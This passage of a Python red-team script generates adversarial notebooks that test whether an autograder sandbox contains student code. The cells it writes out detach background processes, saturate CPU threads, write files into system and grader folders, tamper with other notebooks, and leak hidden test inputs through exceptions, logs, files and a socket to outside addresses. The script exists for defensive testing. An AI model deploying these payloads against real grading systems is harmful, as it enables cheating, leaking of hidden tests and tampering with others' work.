                 "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
                 "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
                 "        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(600)', 'adv-sleeper'])\n"
                 "    os._exit(0)\n",
          replace={"u1.3.q1": "import subprocess\n\ndef negatives_to_inf(X):\n"
                              "    subprocess.run(['sh', '-c', 'echo hi > /tmp/ESCAPED-limits-detached_subprocesses; sleep 600'], timeout=1)\n"
                              "    return X\n"}),
        A("limits", "cpu_threads", "use every core with many torch and Python threads",
          replace={"u1.3.q1": "import threading\n\ndef negatives_to_inf(X):\n    torch.set_num_threads(64)\n"
                              "    for _ in range(16):\n        threading.Thread(target=lambda: torch.ones(2000, 2000) @ torch.ones(2000, 2000), daemon=True).start()\n"
                              "    big = torch.ones(3000, 3000)\n    for _ in range(200):\n        big = big @ big / 3000\n    return X\n"}),
        A("limits", "write_outside", "write marker files to the course, the submission, the home folder and system folders",
          before="import os, glob\nimport autograder\nplaces = ['/', '/etc', '/usr', '/root', '/var/tmp', '/dev/shm', '/tmp', '..', '../..',\n"
                 "          os.path.dirname(autograder.__file__), os.path.dirname(os.path.dirname(autograder.__file__))]\n"
                 "places += glob.glob('/tmp/*') + glob.glob('/tmp/*/*')\n"
                 "for place in places:\n    try:\n        with open(os.path.join(place, 'ESCAPED-limits-write_outside'), 'w') as f:\n"
                 "            f.write('escaped')\n    except OSError:\n        pass\n"
                 "for notebook in glob.glob('../*.ipynb') + glob.glob('/tmp/*/*/*.ipynb'):\n    try:\n"
                 "        open(notebook, 'a').write('tampered')\n    except OSError:\n        pass\n",
          replace={"u1.3.q1": "def negatives_to_inf(X):\n    return X\n"}),
        A("limits", "proxy_outside_the_envelope", "make the grader compute the course's function on a 3000x3000 "
          "float16 tensor and on huge inputs, from a function graded again with the course's version standing in",
          replace={"u1.3.q1": "def negatives_to_inf(X):\n    return X\n",
                   "u1.4.q1": BREACH + "import time\n\ndef double_as_column_(x):\n"
                              "    if 'computed by the grader' in (negatives_to_inf.__doc__ or ''):\n"
                              "        for big in (torch.zeros(3000, 3000, dtype=torch.float16), torch.zeros(20_000_000)):\n"
                              "            try:\n                negatives_to_inf(big)\n"
                              "                breach(f'the grader computed the course function on {tuple(big.shape)} {big.dtype}')\n"
                              "            except Exception:\n                pass\n"
                              "        started = time.monotonic()\n"
                              "        while time.monotonic() - started < 60:\n"
                              "            try:\n                negatives_to_inf(torch.zeros(2_000))\n"
                              "            except Exception:\n                break\n"
                              "    return x\n"}),
        # --- leaking hidden inputs -------------------------------------------------------
        A("leaking", "inputs_in_exceptions", "raise exceptions carrying the hidden input as text, hex and base64",
          replace={"u1.3.q1": LEAK + "def negatives_to_inf(X):\n    raise ValueError(leak_text(X))\n",
                   "u1.3.q2": LEAK + "import base64\n\ndef odd_index_slice(X, shape=(2, 5, 10)):\n"
                              "    raise RuntimeError('LE' + 'AK:' + base64.b64encode(X.double().numpy().tobytes()).decode())\n",
                   "u1.4.q1": LEAK + "def double_as_column_(x):\n    raise TypeError('\\n'.join([leak_text(x)] * 3))\n"}),
        A("leaking", "inputs_in_repr_and_type_names", "return objects whose repr and class name spell out the input",
          replace={"u1.3.q1": LEAK + "class Echo:\n    def __init__(self, X):\n        self.text = leak_text(X)\n"
                              "    def __repr__(self):\n        return self.text\n\n"
                              "def negatives_to_inf(X):\n    return Echo(X)\n",
                   "u1.3.q2": "def odd_index_slice(X, shape=(2, 5, 10)):\n"
                              "    name = 'LEAK_' + '_'.join(f'{v:.4f}'.replace('.', 'd').replace('-', 'm') for v in X.double().flatten().tolist())\n"
                              "    return type(name, (), {})()\n"}),
        A("leaking", "inputs_in_answers", "store the hidden input in an answer constant that is read later",
          replace={"u1.3.q1": LEAK + "def negatives_to_inf(X):\n    global ans_u1_6_q2, ans_u1_5_q1\n"
                              "    ans_u1_6_q2 = leak_text(X)\n    return X\n"},
          honest=("u1.6.q1",)),
        A("leaking", "inputs_to_stdout", "print the hidden input (the log is for the TA only)",
          replace={"u1.3.q1": LEAK + "import sys\n\ndef negatives_to_inf(X):\n    print(leak_text(X))\n"
                              "    print(leak_text(X), file=sys.stderr)\n    return X\n"}),
        A("leaking", "inputs_to_files", "save the hidden input to files that might survive the sandbox",
          replace={"u1.3.q1": LEAK + "import os\n\ndef negatives_to_inf(X):\n"
                              "    for folder in ['.', '/tmp', '/var/tmp', '/dev/shm', os.path.expanduser('~'), '..']:\n"
                              "        try:\n            with open(os.path.join(folder, 'ESCAPED-leaking-inputs_to_files'), 'a') as f:\n"
                              "                f.write(leak_text(X))\n        except OSError:\n            pass\n    return X\n"}),
        A("leaking", "inputs_over_the_network", "send the hidden input to a server",
          replace={"u1.3.q1": LEAK + BREACH + "import socket\n\ndef negatives_to_inf(X):\n"
                              "    for address in [('127.0.0.1', 9999), ('1.1.1.1', 80)]:\n        try:\n"
                              "            socket.create_connection(address, timeout=0.5).sendall(leak_text(X).encode())\n"
                              "            breach(f'sent to {address}')\n        except OSError:\n            pass\n    return X\n"}),
        A("leaking", "inputs_in_warnings_and_logging", "emit the hidden input as warnings and log records",
          replace={"u1.3.q1": LEAK + "import logging, warnings\n\ndef negatives_to_inf(X):\n"
                              "    warnings.warn(leak_text(X))\n    logging.getLogger().error(leak_text(X))\n"
                              "    raise Warning(leak_text(X))\n"}),
        A("leaking", "proxy_answers_kept_for_later", "save the course's answers, computed during a regrade with the "
          "course's function standing in, in /tmp and read them in a later exercise",
          replace={"u1.3.q1": "def negatives_to_inf(X):\n    return X\n",
                   "u1.4.q1": SCRATCH + "import pickle\n\ndef double_as_column_(x):\n"
                              "    if 'computed by the grader' in (negatives_to_inf.__doc__ or ''):\n"
                              "        answers = negatives_to_inf(torch.tensor([-1.0, 0.0, 2.0])).tolist()\n"
                              "        for place in scratch_places():\n"
                              "            try:\n                with open(place, 'wb') as f:\n"
                              "                    pickle.dump(answers, f)\n"
                              "            except OSError:\n                pass\n"
                              "    return x\n",
                   "u1.6.q2": BREACH + SCRATCH + "import pickle\n\ndef second_derivative(f, x0):\n"
                              "    for place in scratch_places():\n"
                              "        if os.path.exists(place):\n"
                              "            breach('read the course answers saved during another exercise: ' + repr(pickle.load(open(place, 'rb'))))\n"
                              "    return 0.0\n\nans_u1_6_q2 = 0.0\n"}),
    ]


ATTACKS = _attacks()


def notebook_for(attack: Attack) -> nbformat.NotebookNode:
    """The release with the honest answers and the attack in place. Hostile code goes into
    exercise cells, which always run (a scratch cell that no exercise needs is not run)."""
    release, answers = release_and_answers()
    nb = copy.deepcopy(release)
    first = next(c.metadata.nbgrader["grade_id"] for c in nb.cells
                 if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") in attack.replace)
    for cell in nb.cells:
        grade_id = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
        if grade_id in attack.replace:
            cell.source = attack.replace[grade_id]
            if grade_id == first and attack.before:
                cell.source = attack.before + "\n\n" + cell.source
        elif grade_id in attack.honest and cell.metadata.nbgrader.get("solution"):
            cell.source = answers[grade_id]
    nb.metadata["adversarial"] = {
        "goal": attack.goal, "attack": attack.name, "what": attack.what, "honest": list(attack.honest),
        "spares_honest": attack.spares_honest, "statuses": list(attack.statuses), "ceiling": attack.ceiling,
    }
    return nb


def path_for(attack: Attack) -> Path:
    return HERE / attack.goal / f"{attack.name}.ipynb"


def main() -> int:
    for attack in ATTACKS:
        path = path_for(attack)
        path.parent.mkdir(exist_ok=True)
        nbformat.write(notebook_for(attack), str(path))
    print(f"wrote {len(ATTACKS)} notebooks under {HERE}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
